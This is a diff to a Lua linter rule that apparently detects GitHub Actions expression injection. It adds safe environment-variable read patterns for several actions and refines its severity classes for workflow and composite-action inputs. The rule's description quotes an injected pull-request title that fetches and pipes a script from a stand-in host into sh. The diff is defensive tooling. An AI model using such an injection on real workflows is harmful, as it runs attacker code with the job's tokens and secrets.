@@ -43,6 +43,11 @@ local SAFE_READ = {
   ["amadevus/pwsh-script"] = "$env:NAME",
   ["azure/powershell"] = "$env:NAME",
   ["cardinalby/js-eval-action"] = "env.NAME",
+  ["azure/cli"] = "\"$NAME\"",
+  ["mikefarah/yq"] = "strenv(NAME)",
+  ["sergeysova/jq-action"] = "$ENV.NAME",
+  ["appleboy/ssh-action"] = "\"$NAME\" (listed in the action's envs: input)",
+  ["addnab/docker-run-action"] = "\"$NAME\" (passed with -e NAME in options:)",
 }
 
 local SEV_RANK = {info = 1, low = 2, medium = 3, high = 4, critical = 5}
@@ -161,7 +166,7 @@ local function message(best, expr, sink_key, field_desc)
   local shown = "${{ " .. body .. " }}"
   if #shown > 80 then shown = "${{ " .. (path or (body:sub(1, 60) .. "...")) .. " }}" end
   local var = env_name(path)
-  local read = sink_key and SAFE_READ[sink_key] or "\"$NAME\""
+  local read = sink_key and (SAFE_READ[sink_key] or "the environment variable NAME") or "\"$NAME\""
   read = read:gsub("NAME", var)
   local via = ""
   if best.item.via and best.item.via ~= path then via = " (" .. best.item.via .. ")" end
@@ -182,8 +187,8 @@ an action evaluates as code (actions/github-script `script:`, azure/cli
 `inlineScript:`, mikefarah/yq `cmd:` and the other sinks CodeQL and zizmor
 list), with its value before the shell or interpreter starts. When that
 value is text an outsider writes, such as a pull request or issue title, a
-comment, a commit message, a fork's branch name or a string input of a
-reusable workflow, a title like `"; curl -sSf https://evil.example/x | sh; #`
+comment, a commit message, a fork's branch name or an input a caller fills
+with such text, a title like `"; curl -sSf https://evil.example/x | sh; #`
 runs as code in the job, with its GITHUB_TOKEN and every secret in scope:
 for ML pipelines that is the model registry token, the Hugging Face write
 token, the cloud credentials of the training data bucket.
@@ -193,13 +198,18 @@ follows zizmor's capability table and heuristics: free text is
 "arbitrary" (high), GitHub-generated URLs, e-mail addresses and ref names
 "structured" (medium), numbers, SHAs, ids, logins and secrets "fixed"
 (reported only with --profile pedantic). `inputs.*` are followed to their
-declaration (string: high; boolean/number/choice: pedantic; undeclared:
-low), `env.*` to the env: value that defines it (static: pedantic;
-otherwise the worst of what it carries, at least low), `matrix.*` to its
-values, and `steps.<id>.outputs.*` / `needs.<job>.outputs.*` to what the
-step writes to $GITHUB_OUTPUT or the job's outputs: map (unknown:
-informational). Only values that flow into the result count:
-`${{ github.event.issue.title == 'x' }}` expands to true or false.
+declaration: a composite action's inputs are high (as zizmor); a reusable
+workflow's string inputs take the class of what its callers in the
+repository pass in `with:` (low when no caller shows it); string inputs of
+workflow_dispatch alone are low (whoever dispatches has write access);
+boolean/number/choice inputs are pedantic; undeclared ones low. `env.*`
+goes to the env: value that defines it (static: pedantic; otherwise the
+worst of what it carries, at least low), `matrix.*` to its values, and
+`steps.<id>.outputs.*` / `needs.<job>.outputs.*` to what the step writes to
+$GITHUB_OUTPUT or the job's outputs: map (unknown: informational). Only
+values that flow into the result count: `${{ github.event.issue.title ==
+'x' }}` expands to true or false; through fromJSON() only attacker text
+counts.
 
 One finding per expression, at the line of its `${{`.]],
   remediation = [[
